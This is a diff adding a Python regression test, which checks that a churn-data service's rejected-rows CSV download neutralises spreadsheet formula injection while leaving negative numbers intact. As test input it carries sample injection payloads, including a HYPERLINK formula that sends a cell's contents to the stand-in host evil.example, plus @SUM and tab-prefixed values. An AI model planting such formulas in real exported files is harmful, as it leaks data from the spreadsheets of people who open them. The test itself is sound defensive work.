@@ -159,3 +159,27 @@ def test_customer_detail_lists_recent_events(key_client):
     body = key_client.get("/api/v1/customers/E-1/").json()
     assert body["recent_events"][0]["event_type"] == "payment.failed"
     assert body["recent_events"][0]["data"] == {"amount": 30}
+
+
+def test_rejected_rows_csv_neutralises_formulas_but_keeps_numbers(post_file, key_client):
+    """Issue 11 finding 7: cells starting with = + - @ tab or CR were written raw."""
+    rows = [
+        telco('=HYPERLINK("http://evil.example/?x="&A1)', tenure="-12.5"),
+        telco("F-2", tenure="x", gender="+1+2", Partner="@SUM(A1:A9)", Dependents="\tcmd"),
+        telco("F-3", tenure="-3-4"),
+        '=1+2,"unclosed',
+    ]
+    run_id = post_file(telco_csv(rows)).json()["id"]
+    download = key_client.get(f"{URL}{run_id}/rejected/", {"format": "csv"})
+    table = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
+    assert len(table) == 4
+    first, second, third, malformed = table
+    assert first["customerID"] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
+    assert first["tenure"] == "-12.5"  # a number stays a number
+    assert (second["gender"], second["Partner"]) == ("'+1+2", "'@SUM(A1:A9)")
+    assert second["Dependents"] == "'\tcmd"
+    assert third["tenure"] == "'-3-4"
+    assert malformed["_text"].startswith("'=1+2")
+    for row in table:
+        for value in row.values():
+            assert not value or (value[0] not in "=+@\t\r" and not (value[0] == "-" and value != "-12.5"))
